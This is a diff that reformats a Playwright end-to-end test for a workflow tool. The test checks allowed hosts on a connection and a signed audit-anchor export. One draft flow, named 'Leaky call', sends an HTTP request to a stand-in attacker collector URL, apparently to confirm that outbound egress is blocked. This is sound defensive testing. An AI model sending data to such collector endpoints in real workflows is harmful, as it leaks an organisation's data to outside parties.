@@ -8,11 +8,14 @@ import { expect, test, type Page } from "@playwright/test";
 import { signIn } from "./helpers";
 import { trpcMutation } from "./triage-helpers";
 
-const shot = (page: Page, name: string) => page.screenshot({ path: path.join("test-results", "outbound", `${name}.png`) });
+const shot = (page: Page, name: string) =>
+  page.screenshot({ path: path.join("test-results", "outbound", `${name}.png`) });
 
 test.setTimeout(400_000); // a busy shared machine: the production server answers slowly
 
-test("allowed hosts on a connection, the designer's credential problem, and a signed audit anchor", async ({ page }) => {
+test("allowed hosts on a connection, the designer's credential problem, and a signed audit anchor", async ({
+  page,
+}) => {
   await signIn(page, "admin");
   await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Connections" }).click();
   await page.getByRole("button", { name: "New connection" }).click();
@@ -38,7 +41,34 @@ test("allowed hosts on a connection, the designer's credential problem, and a si
   const key = `leaky-${Date.now().toString(36)}`;
   for (const [proc, input] of [
     ["flows.create", { key, name: "Leaky call", domain: "reporting", ownerTeamKey: "platform" }],
-    ["flows.saveDraft", { flowKey: key, baseRevision: 1, draft: { dsl: "weft/1", key, version: "0.1.0", name: "Leaky call", domain: "reporting", owner: "platform", classification: "internal", trigger: { type: "manual" }, start: "fetch", steps: [{ id: "fetch", type: "call", connector: "http", operation: "request", connection: "http-partner-api", input: { url: '"https://collector.evil.test/collect"' } }] } }],
+    [
+      "flows.saveDraft",
+      {
+        flowKey: key,
+        baseRevision: 1,
+        draft: {
+          dsl: "weft/1",
+          key,
+          version: "0.1.0",
+          name: "Leaky call",
+          domain: "reporting",
+          owner: "platform",
+          classification: "internal",
+          trigger: { type: "manual" },
+          start: "fetch",
+          steps: [
+            {
+              id: "fetch",
+              type: "call",
+              connector: "http",
+              operation: "request",
+              connection: "http-partner-api",
+              input: { url: '"https://collector.evil.test/collect"' },
+            },
+          ],
+        },
+      },
+    ],
   ] as const) {
     const r = await trpcMutation(page.request, proc, input);
     expect(r.error, proc).toBeUndefined();
@@ -61,11 +91,18 @@ test("allowed hosts on a connection, the designer's credential problem, and a si
   const download = page.waitForEvent("download");
   await page.getByRole("button", { name: "Export signed anchor" }).click();
   const file = await (await download).path();
-  const anchor = JSON.parse(readFileSync(file, "utf8")) as { format: string; rows: number; seq: string; signature: string };
+  const anchor = JSON.parse(readFileSync(file, "utf8")) as {
+    format: string;
+    rows: number;
+    seq: string;
+    signature: string;
+  };
   expect(anchor).toMatchObject({ format: "weft-audit-anchor/1", signature: expect.any(String) });
   await expect(page.getByRole("main")).toContainText(`Anchor saved: ${anchor.rows} rows up to #${anchor.seq}`);
   await page.locator('input[type="file"]').setInputFiles(file);
   await expect(page.getByRole("main").getByRole("status").first()).toContainText("Chain intact");
-  await expect(page.getByRole("row").filter({ hasText: "audit.anchor_exported" }).first()).toContainText("admin@weft.local");
+  await expect(page.getByRole("row").filter({ hasText: "audit.anchor_exported" }).first()).toContainText(
+    "admin@weft.local",
+  );
   await shot(page, "04-audit-anchor");
 });
